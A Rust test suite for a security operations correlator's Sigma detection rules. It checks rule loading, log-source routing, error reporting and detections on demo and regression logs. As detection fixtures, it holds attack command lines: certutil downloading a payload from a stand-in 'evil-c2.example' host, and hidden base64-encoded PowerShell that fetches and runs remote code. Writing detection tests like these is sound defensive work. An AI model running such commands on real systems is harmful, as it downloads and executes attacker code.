//! Sigma detection: the project's rules in `rules/sigma/`, routing by log source, load errors,
//! and (when the shared corpora, `../shared/corpora` beside the workspace, are present) SigmaHQ rules against their regression logs.

use soc_correlator::sigma;

use serde_json::{Map, Value, json};
use sigma::{Detector, EngineKind, SigmaRules};
use soc_model::{Event, EventType, Level, Log, LogSource};
use std::path::{Path, PathBuf};

const POWERSHELL_ENC: &str = "53804447-651c-43ad-ba82-3bcfb0bae91c";
const CERTUTIL: &str = "9df7db16-d704-4d9c-ae72-f74a343c83fd";
const WHOAMI: &str = "f76645b0-93f5-44e2-816b-6428508dd085";
const SSH_FAILED: &str = "6e94893f-f137-4b39-891f-bc29d6640547";
const SUDO_NOT_SUDOERS: &str = "6f3a9e68-9dc0-4704-9626-02f953db316f";

fn project_rules_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/sigma").canonicalize().unwrap()
}

fn project_rules() -> SigmaRules {
    let (rules, errors) = SigmaRules::load(&[project_rules_dir()]);
    assert!(errors.is_empty(), "project rules must load cleanly: {errors:#?}");
    rules
}

fn ls(product: &str, category: Option<&str>, service: Option<&str>) -> LogSource {
    LogSource { product: Some(product.into()), category: category.map(Into::into), service: service.map(Into::into) }
}

/// A log event shaped like the collector's output.
fn log_event(logsource: LogSource, fields: Value, message: Option<&str>) -> Event {
    let mut ev = Event::new(EventType::Log, "2026-11-27T03:04:05.123456Z".parse().unwrap());
    ev.host = Some("ws-cpnet-07".into());
    ev.segment = Some("cpnet".into());
    ev.sensor = Some("collector-1".into());
    ev.src_ip = Some("10.20.3.7".into());
    let fields: Map<String, Value> = match fields {
        Value::Object(m) => m,
        _ => Map::new(),
    };
    ev.log = Some(Log {
        input: Some("syslog-tcp".into()),
        logsource,
        message: message.map(Into::into),
        fields,
        ..Log::default()
    });
    ev.ensure_id();
    ev
}

fn process(image: &str, cmd: &str, extra: Value) -> Event {
    let mut f = json!({"EventID": 1, "Image": image, "CommandLine": cmd, "User": "CPNET\\chuyenvien", "IntegrityLevel": "Medium"});
    if let (Value::Object(m), Value::Object(x)) = (&mut f, extra) {
        m.extend(x);
    }
    log_event(ls("windows", Some("process_creation"), Some("sysmon")), f, None)
}

fn sshd(msg: &str) -> Event {
    log_event(ls("linux", None, Some("sshd")), json!({}), Some(msg))
}

fn fired(rules: &SigmaRules, ev: &Event) -> Vec<String> {
    rules.evaluate(ev).into_iter().map(|d| d.detection.unwrap().rule_id).collect()
}

const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

#[test]
fn project_rules_load_with_zero_errors_and_carry_the_project_metadata() {
    let rules = project_rules();
    assert!(rules.len() >= 5, "{} rules", rules.len());
    // One file holds a correlation rule (loaded by the correlation module, not here).
    assert_eq!(rules.file_count(), rules.len() + 1);
    let (corr, errs) = soc_correlator::correlation::CorrelationRules::load(&[project_rules_dir()]);
    assert!(errs.is_empty(), "{errs:?}");
    assert_eq!(corr.len(), 1);
    assert!(
        !corr.suppresses("6e94893f-f137-4b39-891f-bc29d6640547"),
        "generate: true keeps the base rule's detections"
    );
    assert_eq!(rules.engine_name(), "fast", "the correlator's own engine is the default");
    // The metadata the brief requires, read with the parser directly.
    let mut ids = std::collections::HashSet::new();
    for r in rules.rules() {
        let text = std::fs::read_to_string(&r.file).unwrap();
        let c = rsigma_parser::parse_sigma_yaml(&text).unwrap();
        assert!(c.errors.is_empty(), "{}: {:?}", r.file.display(), c.errors);
        let rule = &c.rules[0];
        assert_eq!(rule.author.as_deref(), Some("Canh Gac project"), "{}", r.file.display());
        let id = rule.id.as_deref().unwrap();
        assert!(is_uuid(id), "{}: id {id}", r.file.display());
        assert!(ids.insert(id.to_string()), "duplicate id {id}");
        assert!(
            rule.level.is_some() && !rule.tags.is_empty() && !rule.falsepositives.is_empty(),
            "{}",
            r.file.display()
        );
        assert!(rule.tags.iter().any(|t| t.starts_with("attack.t")), "{}: no ATT&CK technique tag", r.file.display());
        assert!(rule.description.is_some() && rule.date.is_some() && rule.status.is_some(), "{}", r.file.display());
    }
    // rsigma's Sigma linter (spec errors and best-practice warnings) finds nothing.
    for r in rules.rules() {
        let text = std::fs::read_to_string(&r.file).unwrap();
        let findings: Vec<String> = rsigma_parser::lint_yaml_str(&text)
            .iter()
            .filter(|w| matches!(w.severity, rsigma_parser::Severity::Error | rsigma_parser::Severity::Warning))
            .map(|w| w.to_string())
            .collect();
        assert!(findings.is_empty(), "{}: {findings:#?}", r.file.display());
    }
    for id in [POWERSHELL_ENC, CERTUTIL, WHOAMI, SSH_FAILED, SUDO_NOT_SUDOERS] {
        assert!(ids.contains(id), "rule {id} missing");
    }
}

#[test]
fn builtin_rules_are_exactly_the_files_in_rules_sigma() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let mut on_disk: Vec<(String, String)> = Vec::new();
    fn walk(dir: &Path, root: &Path, out: &mut Vec<(String, String)>) {
        for e in std::fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                walk(&p, root, out);
            } else if p.extension().is_some_and(|x| x == "yml" || x == "yaml") {
                let rel = p.strip_prefix(root).unwrap().to_string_lossy().replace('\\', "/");
                out.push((rel, std::fs::read_to_string(&p).unwrap()));
            }
        }
    }
    walk(&project_rules_dir(), &root.canonicalize().unwrap(), &mut on_disk);
    on_disk.sort();
    let builtin: Vec<(String, String)> =
        sigma::builtin::BUILTIN_RULES.iter().map(|(n, t)| (n.to_string(), t.to_string())).collect();
    let names = |v: &[(String, String)]| v.iter().map(|(n, _)| n.clone()).collect::<Vec<_>>();
    assert_eq!(names(&builtin), names(&on_disk), "update correlator/src/sigma/builtin.rs");
    assert_eq!(builtin, on_disk, "builtin rule text differs from the file");
    let (rules, errors) = SigmaRules::builtin();
    assert!(errors.is_empty(), "{errors:?}");
    let ids = |r: &SigmaRules| r.rules().iter().map(|i| i.id.clone()).collect::<std::collections::BTreeSet<_>>();
    assert_eq!(ids(&rules), ids(&project_rules()));
}

fn is_uuid(s: &str) -> bool {
    let parts: Vec<&str> = s.split('-').collect();
    parts.iter().map(|p| p.len()).collect::<Vec<_>>() == [8, 4, 4, 4, 12]
        && parts.iter().all(|p| p.bytes().all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase()))
}

#[test]
fn encoded_powershell_fires_with_a_complete_detection_event() {
    let rules = project_rules();
    let ev = process(
        PS,
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        json!({}),
    );
    let dets = rules.evaluate(&ev);
    assert_eq!(dets.len(), 1, "{dets:#?}");
    let d = &dets[0];
    assert_eq!(d.event_type, EventType::Detection);
    assert_eq!(d.timestamp, ev.timestamp);
    assert_eq!((&d.host, &d.segment, &d.sensor, &d.src_ip), (&ev.host, &ev.segment, &ev.sensor, &ev.src_ip));
    let det = d.detection.as_ref().unwrap();
    assert_eq!(det.engine, "sigma");
    assert_eq!(det.rule_id, POWERSHELL_ENC);
    assert_eq!(det.rule_title, "PowerShell Started With An Encoded Command");
    assert_eq!(det.level, Level::High);
    assert!(det.tags.contains(&"attack.t1059.001".to_string()), "{:?}", det.tags);
    assert_eq!(det.logsource.as_ref(), Some(&ev.log.as_ref().unwrap().logsource));
    assert_eq!(det.evidence, vec![ev.id.clone().unwrap()]);
    assert!(det.extra["matched_fields"].as_array().is_some_and(|a| !a.is_empty()), "{:?}", det.extra);
    // Deterministic id: the same log gives the same detection, id included.
    assert_eq!(d.id.as_deref(), Some(d.compute_id().as_str()));
    assert_eq!(rules.evaluate(&ev), dets);
    // A log without an id yet is evidenced by the id it will get.
    let mut no_id = ev.clone();
    no_id.id = None;
    assert_eq!(rules.evaluate(&no_id)[0].detection.as_ref().unwrap().evidence, det.evidence);
    // The detection round-trips through the bus encoding.
    assert_eq!(&Event::from_json(&d.to_json()).unwrap(), d);

    // Other spellings of the parameter.
    for cmd in [
        "pwsh.exe -EncodedCommand SQBFAFgA",
        "powershell.exe -ec SQBFAFgA",
        "powershell.exe /enc SQBFAFgA",
        "\"powershell.exe\" -NoProfile -e SQBFAFgA",
    ] {
        let img = if cmd.starts_with("pwsh") { "C:\\Program Files\\PowerShell\\7\\pwsh.exe" } else { PS };
        assert_eq!(fired(&rules, &process(img, cmd, json!({}))), [POWERSHELL_ENC], "{cmd}");
    }
    // Benign PowerShell and an unrelated process with "-enc" in its arguments.
    for (img, cmd) in [
        (PS, "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1"),
        (PS, "powershell.exe -NoProfile -Command Get-Service"),
        ("C:\\Tools\\ffmpeg.exe", "ffmpeg.exe -i a.mp4 -enc h264 b.mp4"),
    ] {
        assert!(fired(&rules, &process(img, cmd, json!({}))).is_empty(), "{cmd}");
    }
}

#[test]
fn certutil_download_fires_and_other_certutil_uses_do_not() {
    let rules = project_rules();
    let certutil = "C:\\Windows\\System32\\certutil.exe";
    for cmd in [
        "certutil.exe -urlcache -split -f http://evil-c2.example/payload.bin C:\\Users\\Public\\p.bin",
        "certutil /verifyctl -f -split https://203.0.113.9/x.exe",
    ] {
        assert_eq!(fired(&rules, &process(certutil, cmd, json!({}))), [CERTUTIL], "{cmd}");
    }
    // Renamed binary, recognized by its original file name.
    let renamed = process(
        "C:\\Users\\Public\\cu.exe",
        "cu.exe -urlcache -f http://x.example/a a",
        json!({"OriginalFileName": "CertUtil.exe"}),
    );
    assert_eq!(fired(&rules, &renamed), [CERTUTIL]);
    for cmd in ["certutil -hashfile C:\\iso\\win.iso SHA256", "certutil -urlcache", "certutil -decode a.b64 a.exe"] {
        assert!(fired(&rules, &process(certutil, cmd, json!({}))).is_empty(), "{cmd}");
    }
}

#[test]
fn whoami_fires_for_a_plain_user_only() {
    let rules = project_rules();
    let whoami = "C:\\Windows\\System32\\whoami.exe";
    assert_eq!(fired(&rules, &process(whoami, "whoami /all", json!({}))), [WHOAMI]);
    assert!(fired(&rules, &process(whoami, "whoami", json!({"IntegrityLevel": "High"}))).is_empty());
    assert!(
        fired(&rules, &process(whoami, "whoami", json!({"IntegrityLevel": "System", "User": "NT AUTHORITY\\SYSTEM"})))
            .is_empty()
    );
    assert!(fired(&rules, &process(whoami, "whoami", json!({"User": "NT AUTHORITY\\SYSTEM"}))).is_empty());
    assert!(fired(&rules, &process("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c dir", json!({}))).is_empty());
}

#[test]
fn ssh_failed_password_and_sudo_rules_fire_on_the_message() {
    let rules = project_rules();
    let ev = sshd("Failed password for root from 203.0.113.7 port 4242 ssh2");
    let dets = rules.evaluate(&ev);
    assert_eq!(dets.len(), 1);
    let det = dets[0].detection.as_ref().unwrap();
    assert_eq!(det.rule_id, SSH_FAILED);
    assert_eq!(det.level, Level::Low);
    assert_eq!(det.logsource.as_ref().unwrap().service.as_deref(), Some("sshd"));
    assert_eq!(
        fired(&rules, &sshd("Failed password for invalid user admin from 203.0.113.7 port 4243 ssh2")),
        [SSH_FAILED]
    );
    for benign in
        ["Accepted publickey for quantri from 10.10.1.5 port 51522 ssh2", "Connection closed by 10.10.1.5 port 51522"]
    {
        assert!(fired(&rules, &sshd(benign)).is_empty(), "{benign}");
    }
    let sudo = |m: &str| log_event(ls("linux", None, Some("sudo")), json!({}), Some(m));
    assert_eq!(
        fired(
            &rules,
            &sudo("www-data : user NOT in sudoers ; TTY=pts/0 ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash")
        ),
        [SUDO_NOT_SUDOERS]
    );
    assert!(
        fired(&rules, &sudo("quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/usr/bin/apt update"))
            .is_empty()
    );
}

#[test]
fn rules_only_see_logs_of_their_log_source() {
    let rules = project_rules();
    // The sshd text in a Windows event, a PowerShell command line in a Linux log, a process
    // command line in a Windows log without the process_creation category.
    let msg = "Failed password for root from 203.0.113.7 port 4242 ssh2";
    let win =
        log_event(ls("windows", Some("process_creation"), Some("sysmon")), json!({"Image": "C:\\x.exe"}), Some(msg));
    assert!(fired(&rules, &win).is_empty());
    let auth = log_event(ls("linux", None, Some("auth")), json!({}), Some(msg));
    assert!(fired(&rules, &auth).is_empty(), "a service: sshd rule must not see service: auth");
    let no_service =
        log_event(LogSource { product: Some("linux".into()), ..LogSource::default() }, json!({}), Some(msg));
    assert!(fired(&rules, &no_service).is_empty(), "the rule sets service: sshd, the event has none");
    let f = json!({"Image": PS, "CommandLine": "powershell -enc SQBFAFgA"});
    assert!(fired(&rules, &log_event(ls("linux", Some("process_creation"), None), f.clone(), None)).is_empty());
    assert!(fired(&rules, &log_event(ls("windows", None, Some("security")), f.clone(), None)).is_empty());
    assert_eq!(fired(&rules, &log_event(ls("WINDOWS", Some("Process_Creation"), None), f, None)), [POWERSHELL_ENC]);
    // Only log events are evaluated.
    let mut not_log = sshd(msg);
    not_log.event_type = EventType::Other("syslog".into());
    assert!(rules.evaluate(&not_log).is_empty());
    let mut out = Vec::new();
    rules.detect(&sshd(msg), &mut out);
    assert_eq!(out.len(), 1);
    assert_eq!(Detector::name(&rules), "sigma");
}

const RULE_TEMPLATE: &str = r#"
title: TITLE
id: ID
logsource:
    product: linux
    service: sshd
detection:
    keywords:
        - 'KEYWORD'
    condition: keywords
level: medium
"#;

fn rule(title: &str, id: &str, keyword: &str) -> String {
    RULE_TEMPLATE.replace("TITLE", title).replace("ID", id).replace("KEYWORD", keyword)
}

#[test]
fn broken_rules_are_reported_with_their_file_and_the_rest_still_loads() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::create_dir_all(d.join("sub/deeper")).unwrap();
    std::fs::create_dir_all(d.join(".git")).unwrap();
    std::fs::write(d.join("good.yml"), rule("Good", "0c3c4d6e-0000-4000-8000-000000000001", "Failed password"))
        .unwrap();
    std::fs::write(
        d.join("sub/deeper/also_good.yaml"),
        rule("Also Good", "0c3c4d6e-0000-4000-8000-000000000002", "Invalid user"),
    )
    .unwrap();
    std::fs::write(d.join("sub/broken.yml"), "title: Broken\nlogsource: [unclosed\ndetection:\n  sel: {a: b}\n")
        .unwrap();
    std::fs::write(
        d.join("sub/bad_condition.yml"),
        "title: Bad Condition\nlogsource:\n  product: linux\ndetection:\n  selection:\n    a: b\n  condition: selection and nosuchthing\n",
    )
    .unwrap();
    std::fs::write(d.join("no_rule.yml"), "just: a mapping\n").unwrap();
    std::fs::write(d.join("empty.yml"), "").unwrap();
    std::fs::write(d.join("zz_dup.yml"), rule("Dup", "0c3c4d6e-0000-4000-8000-000000000001", "x")).unwrap();
    std::fs::write(
        d.join("correlation.yml"),
        "title: Many\nid: 0c3c4d6e-0000-4000-8000-000000000009\ncorrelation:\n  type: event_count\n  rules:\n    - 0c3c4d6e-0000-4000-8000-000000000001\n  group-by:\n    - host\n  timespan: 5m\n  condition:\n    gte: 10\nlevel: high\n",
    )
    .unwrap();
    std::fs::write(d.join("README.md"), "not a rule").unwrap();
    std::fs::write(d.join(".git/config.yml"), "not: [a rule").unwrap();
    let missing = d.join("does-not-exist");

    let (rules, errors) = SigmaRules::load(&[d.to_path_buf(), missing.clone()]);
    let names: Vec<String> = rules.rules().iter().map(|r| r.title.clone()).collect();
    assert_eq!(names, ["Good", "Also Good"], "{errors:#?}");
    let by_file = |name: &str| errors.iter().filter(|e| e.file.ends_with(name)).count();
    assert_eq!(by_file("sub/broken.yml"), 1, "{errors:#?}");
    assert_eq!(by_file("sub/bad_condition.yml"), 1, "{errors:#?}");
    assert_eq!(by_file("no_rule.yml"), 1, "{errors:#?}");
    assert_eq!(by_file("empty.yml"), 1, "{errors:#?}");
    assert_eq!(by_file("zz_dup.yml"), 1, "{errors:#?}");
    assert!(errors.iter().any(|e| e.file.ends_with("zz_dup.yml") && e.reason.contains("duplicate id")), "{errors:#?}");
    // Correlation documents are not the detection engine's: no error here, and the
    // correlation module loads them from the same paths.
    assert_eq!(by_file("correlation.yml"), 0, "{errors:#?}");
    let (corr, _) = soc_correlator::correlation::CorrelationRules::load(&[d.to_path_buf()]);
    assert_eq!(corr.len(), 1);
    assert_eq!(by_file("does-not-exist"), 1, "{errors:#?}");
    assert_eq!(errors.len(), 6, "{errors:#?}");
    // Display names the file.
    let shown = errors.iter().find(|e| e.file.ends_with("sub/broken.yml")).unwrap().to_string();
    assert!(shown.contains("broken.yml:"), "{shown}");
    // A single file is loaded as given.
    let (one, errs) = SigmaRules::load(&[d.join("good.yml")]);
    assert!(errs.is_empty() && one.len() == 1);
    // What loaded works.
    assert_eq!(rules.evaluate(&sshd("Invalid user bob from 203.0.113.7")).len(), 1);
}

#[test]
fn sigma_filters_exclude_and_unknown_references_are_reported() {
    let filter = r#"
title: Ignore the jump host
filter:
    rules:
        - 0c3c4d6e-0000-4000-8000-000000000001
    selection:
        message|contains: 'from 10.10.1.5 '
    condition: not selection
"#;
    let orphan = filter.replace("0c3c4d6e-0000-4000-8000-000000000001", "0c3c4d6e-0000-4000-8000-00000000ffff");
    for engine in [EngineKind::Fast, EngineKind::Rsigma] {
        let (rules, errors) = SigmaRules::from_sources_with(
            [
                ("r.yml", rule("Failed", "0c3c4d6e-0000-4000-8000-000000000001", "Failed password")),
                ("f.yml", filter.to_string()),
                ("orphan.yml", orphan.clone()),
            ],
            engine,
        );
        assert_eq!(errors.len(), 1, "{errors:#?}");
        assert_eq!(errors[0].file, Path::new("orphan.yml"));
        assert_eq!(rules.filter_count(), 1);
        assert_eq!(rules.evaluate(&sshd("Failed password for root from 203.0.113.7 port 1 ssh2")).len(), 1);
        assert!(rules.evaluate(&sshd("Failed password for root from 10.10.1.5 port 1 ssh2")).is_empty(), "{engine:?}");
    }
}

#[test]
fn demo_attack_events_through_the_collector_raise_the_expected_detections() {
    // The demo's Windows events (evtx JSON) and syslog lines, normalized by the collector.
    let rules = project_rules();
    let ctx = soc_collector::parse::ParseContext::new("demo", None);
    let sysmon = |image: &str, cmd: &str| {
        json!({"Event": {
            "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
                "EventID": 1, "Version": 5, "Level": 4, "Task": 1, "Opcode": 0, "Keywords": "0x8000000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": "2026-11-27T03:04:05.123456Z"}},
                "EventRecordID": 42, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws-cpnet-07",
            },
            "EventData": {
                "RuleName": "-", "UtcTime": "2026-11-27 03:04:05.123", "ProcessId": 4242,
                "Image": image, "CommandLine": cmd, "CurrentDirectory": "C:\\Users\\Public\\",
                "User": "CPNET\\chuyenvien", "IntegrityLevel": "Medium", "ParentImage": "C:\\Windows\\explorer.exe",
            }
        }})
        .to_string()
    };
    let cases: Vec<(String, Vec<&str>)> = vec![
        (sysmon(PS, "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA="), vec![POWERSHELL_ENC]),
        (
            sysmon("C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://evil-c2.example/payload.bin C:\\Users\\Public\\p.bin"),
            vec![CERTUTIL],
        ),
        (sysmon("C:\\Windows\\System32\\whoami.exe", "whoami /all"), vec![WHOAMI]),
        (sysmon("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"chrome.exe\" --type=renderer"), vec![]),
        ("<38>1 2026-11-27T03:04:05Z srv-web01 sshd 2300 - - Failed password for root from 203.0.113.66 port 50000 ssh2".into(), vec![SSH_FAILED]),
        ("<38>1 2026-11-27T03:04:05Z srv-web01 sshd 2211 - - Accepted publickey for quantri from 10.10.1.5 port 51522 ssh2".into(), vec![]),
        ("<38>Nov 27 03:04:05 srv-web01 sshd[2300]: Failed password for invalid user oracle from 203.0.113.66 port 50001 ssh2".into(), vec![SSH_FAILED]),
        ("<85>Nov 27 03:04:05 srv-web01 sudo: www-data : user NOT in sudoers ; TTY=pts/0 ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh".into(), vec![SUDO_NOT_SUDOERS]),
    ];
    for (raw, want) in cases {
        let mut ev = soc_collector::parse::parse_line(raw.as_bytes(), &ctx).unwrap_or_else(|e| panic!("{raw}: {e}"));
        ev.ensure_id();
        assert_eq!(fired(&rules, &ev), want, "{raw}\n{:?}", ev.log.as_ref().map(|l| &l.logsource));
    }
}

// ---------------------------------------------------------------------------------------
// SigmaHQ rules with their regression logs (skipped when the shared corpora are absent).

fn corpora() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpora/sigma");
    p.join("REGRESSION_INDEX.tsv").is_file().then_some(p)
}

/// Concatenated (pretty-printed) JSON objects.
fn json_objects(text: &str) -> Vec<Value> {
    serde_json::Deserializer::from_str(text).into_iter::<Value>().map(|v| v.unwrap()).collect()
}

#[test]
fn sigmahq_rules_fire_on_their_regression_logs_with_the_fast_engine() {
    regression(EngineKind::Fast);
}

#[test]
fn sigmahq_rules_fire_on_their_regression_logs_with_rsigma() {
    regression(EngineKind::Rsigma);
}

fn regression(engine: EngineKind) {
    let Some(root) = corpora() else {
        eprintln!("SKIPPED sigmahq regression ({}): ../shared/corpora/sigma not found", engine.name());
        return;
    };
    let index = std::fs::read_to_string(root.join("REGRESSION_INDEX.tsv")).unwrap();
    let ctx = soc_collector::parse::ParseContext::new("test", None);
    let (mut total, mut passed, mut failures, mut more) = (0, 0, Vec::new(), Vec::new());
    for line in index.lines().skip(1) {
        let cols: Vec<&str> = line.split('\t').collect();
        let (rule_id, rule_path, json_path, want) = (cols[0], cols[1], cols[6], cols.get(7).copied().unwrap_or(""));
        total += 1;
        let (rules, errors) = SigmaRules::load_with(&[root.join(rule_path)], engine);
        assert_eq!(rules.engine_name(), engine.name());
        if !errors.is_empty() || rules.len() != 1 {
            failures.push(format!("{rule_path}: load {errors:?}"));
            continue;
        }
        let mut hits = 0usize;
        let mut logsources = Vec::new();
        let mut events = Vec::new();
        for obj in json_objects(&std::fs::read_to_string(root.join(json_path)).unwrap()) {
            let mut ev = soc_collector::parse::windows::parse(obj, &ctx).unwrap();
            ev.ensure_id();
            logsources.push(ev.log.as_ref().unwrap().logsource.clone());
            hits += rules.evaluate(&ev).iter().filter(|d| d.detection.as_ref().unwrap().rule_id == rule_id).count();
            events.push(ev);
        }
        // Offline detection (`soc detect`) writes exactly one JSON line per match.
        let mut out = Vec::new();
        let report = soc_correlator::offline::detect(&rules, events, &mut out).unwrap();
        let lines: Vec<&[u8]> = out.split(|b| *b == b'\n').filter(|l| !l.is_empty()).collect();
        assert_eq!(lines.len(), report.detections, "{rule_path}");
        assert_eq!(report.per_rule.get(rule_id).map_or(0, |c| c.matches), hits, "{rule_path}");
        assert!(lines.iter().all(|l| Event::from_json(l).is_ok_and(|e| e.event_type == EventType::Detection)));
        // Upstream counts are minimums: e.g. the AnyDesk and credential-dumping-tool logs
        // hold three events each that the rule plainly matches, with match_count 1.
        let want_n = want.trim().parse::<usize>().unwrap_or(1).max(1);
        if hits >= want_n {
            passed += 1;
            if hits > want_n && !want.trim().is_empty() {
                more.push(format!("{rule_path}: {hits} hits, match_count {want:?}"));
            }
        } else {
            failures.push(format!(
                "{rule_path}: {hits} hits (want {want:?}) rule logsource {:?} event logsources {logsources:?}",
                rules.rules()[0].logsource
            ));
        }
    }
    eprintln!("SigmaHQ regression ({}): {passed}/{total} rules fire on their regression logs", engine.name());
    for f in &failures {
        eprintln!("  FAIL {f}");
    }
    for m in &more {
        eprintln!("  more matches than upstream's count: {m}");
    }
    assert!(total >= 50, "{total} regression entries");
    assert!(failures.is_empty(), "{} of {total} failed", failures.len());
}

#[test]
fn sigmahq_windows_process_creation_rules_load() {
    let Some(root) = corpora() else {
        eprintln!("SKIPPED sigmahq_windows_process_creation_rules_load: ../shared/corpora/sigma not found");
        return;
    };
    let (rules, errors) = SigmaRules::load(&[root.join("rules/windows/process_creation")]);
    eprintln!("SigmaHQ rules/windows/process_creation: {} rules loaded, {} errors", rules.len(), errors.len());
    for e in &errors {
        eprintln!("  {e}");
    }
    assert!(rules.len() > 1000, "{}", rules.len());
    assert!(errors.is_empty());
    // A benign process start matches (almost) nothing; the demo's encoded PowerShell several.
    let benign = process(
        "C:\\Windows\\System32\\notepad.exe",
        "notepad.exe C:\\Users\\a\\notes.txt",
        json!({"ParentImage": "C:\\Windows\\explorer.exe"}),
    );
    let b = rules.evaluate(&benign);
    assert!(b.len() <= 1, "{:?}", b.iter().map(|d| &d.detection.as_ref().unwrap().rule_title).collect::<Vec<_>>());
    let bad = process(
        PS,
        "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        json!({"ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"}),
    );
    let titles: Vec<String> = rules.evaluate(&bad).into_iter().map(|d| d.detection.unwrap().rule_title).collect();
    eprintln!("  encoded PowerShell from Word: {titles:?}");
    assert!(titles.len() >= 2, "{titles:?}");
}

// ---------------------------------------------------------------------------------------
// The wiring proposed for the pipeline, exercised on the in-process bus: each decoded `log`
// is evaluated, detections are stored with the batch and published on the detection topic
// before the offsets are committed.

#[tokio::test]
async fn wiring_sketch_logs_in_detections_out() {
    use soc_bus::{Bus, MemoryBus};
    use soc_model::Kind;
    use std::sync::Arc;
    use std::time::Duration;

    let bus = Arc::new(MemoryBus::new("t", 1000));
    bus.ensure_topics().await.unwrap();
    let logs = vec![
        sshd("Failed password for root from 203.0.113.7 port 4242 ssh2"),
        sshd("Accepted publickey for quantri from 10.10.1.5 port 51522 ssh2"),
        process(PS, "powershell -enc SQBFAFgA", json!({})),
    ];
    soc_bus::publish_events(bus.as_ref(), &logs).await.unwrap();

    let rules: Option<Arc<SigmaRules>> = Some(Arc::new(project_rules()));
    let max_outage = Duration::from_secs(5);
    let mut consumer = bus.subscribe("soc-correlator", &[Kind::Log]).await.unwrap();
    let msgs = consumer.poll(100, Duration::from_millis(50)).await.unwrap();
    assert_eq!(msgs.len(), 3);
    let mut events = Vec::new();
    let mut detections = Vec::new();
    for m in &msgs {
        let (ev, _dead) = soc_correlator::pipeline::to_event(m);
        if let Some(rules) = &rules {
            rules.evaluate_into(&ev, &mut detections);
        }
        events.push(ev);
    }
    events.extend(detections.iter().cloned());
    // (store_with_retry(store, &events, ..) here)
    if !detections.is_empty() {
        soc_bus::with_backoff("publish detections", max_outage, || soc_bus::publish_events(bus.as_ref(), &detections))
            .await
            .unwrap();
    }
    consumer.commit(&msgs).await.unwrap();

    assert_eq!(events.len(), 5);
    let mut det_consumer = bus.subscribe("dashboard", &[Kind::Detection]).await.unwrap();
    let published = det_consumer.poll(100, Duration::from_millis(50)).await.unwrap();
    let mut got: Vec<String> =
        published.iter().map(|m| Event::from_json(&m.payload).unwrap().detection.unwrap().rule_id).collect();
    got.sort();
    let mut want = vec![SSH_FAILED.to_string(), POWERSHELL_ENC.to_string()];
    want.sort();
    assert_eq!(got, want);
    // Evidence points at the stored logs.
    for d in &detections {
        let ev_id = &d.detection.as_ref().unwrap().evidence[0];
        assert!(events.iter().any(|e| e.id.as_ref() == Some(ev_id) && e.event_type == EventType::Log));
    }
}
